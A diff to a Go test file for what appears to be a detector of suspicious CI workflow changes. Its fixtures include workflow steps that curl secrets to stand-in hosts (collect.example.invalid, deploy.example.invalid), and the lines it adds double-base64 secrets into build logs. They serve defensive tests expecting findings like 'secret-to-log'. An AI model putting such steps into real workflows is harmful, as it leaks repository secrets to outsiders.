@@ -71,6 +71,9 @@ var texts = map[string]string{
 		"      - run: curl -d 'a=${{ secrets.A }}' https://collect.example.invalid/v1/in\n",
 	"dispatched": "name: Build\non: workflow_dispatch\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - run: ./configure\n      - run: ./lint\n" +
 		"      - run: ./test --all\n      - run: ./package\n      - uses: octo-org/cover@v3\n      - run: curl -d 'a=${{ secrets.A }}' https://deploy.example.invalid/v1/in\n",
+	"signs":    run("echo '${{ secrets.KEY }}' | base64 | base64"),
+	"signs2":   run("make\necho '${{ secrets.KEY }}' | base64 | base64"),
+	"signs3":   run("make\necho '${{ secrets.OTHER }}' | base64 | base64"),
 	"publish":  run("twine upload dist/*"),
 	"publish2": run("curl -d 'a=${{ secrets.A }}' https://collect.example.invalid/v1/in\ntwine upload dist/*"),
 }
@@ -135,6 +138,10 @@ func TestContext(t *testing.T) {
 		"waits in a new file":                   {then(years(30, "build"), made{files: map[string]string{ci: "build", release: "dormant"}}), ""},
 		"a release altered":                     {then(years(120, "publish"), made{files: held("publish2")}), "release-workflow-altered@publish2"},
 		"a build altered alike":                 {then(years(120, "make1"), made{files: held("publish2")}), ""},
+		"a log, by a stranger":                  {then(usual, made{files: held("signs"), by: "stranger"}), "secret-to-log@signs"},
+		"a log, and a stranger changes else":    {then(then(usual, made{id: "first", files: held("signs")}), made{files: held("signs2"), by: "stranger"}), ""},
+		"a log, and a stranger prints another":  {then(then(usual, made{id: "first", files: held("signs")}), made{files: held("signs3"), by: "stranger"}), "secret-to-log@signs3"},
+		"a log by a stranger, and another":      {then(then(usual, made{id: "first", files: held("signs"), by: "stranger"}), made{files: held("signs2"), by: "other"}), "secret-to-log@signs secret-to-log@signs2"},
 		"the text of a service, always there":   {years(60, "deploy"), ""},
 		"a first version that was always there": {append([]made{{id: "y", message: "x\n", files: held("deploy")}}, then(nil, made{parents: []string{"y"}, files: held("deploy2")})...), ""},
 	} {
